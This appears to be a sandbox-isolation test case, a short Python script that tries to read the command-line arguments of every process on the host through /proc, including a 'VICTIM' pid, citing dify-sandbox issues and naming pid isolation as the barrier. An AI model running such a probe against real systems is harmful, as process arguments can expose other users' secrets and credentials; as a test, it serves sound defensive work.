# tries: reads the arguments of every process on the host
# seen-in: dify-sandbox issues 225 and 253
# walls: pid
import os
try: listed = {int(name) for name in os.listdir("/proc") if name.isdigit()}
except OSError: listed = set(range(1, 400))
for pid in listed | {int(os.environ["VICTIM"])}:
    try: print(open(f"/proc/{pid}/cmdline", "rb").read())
    except OSError: pass
print("attempted")
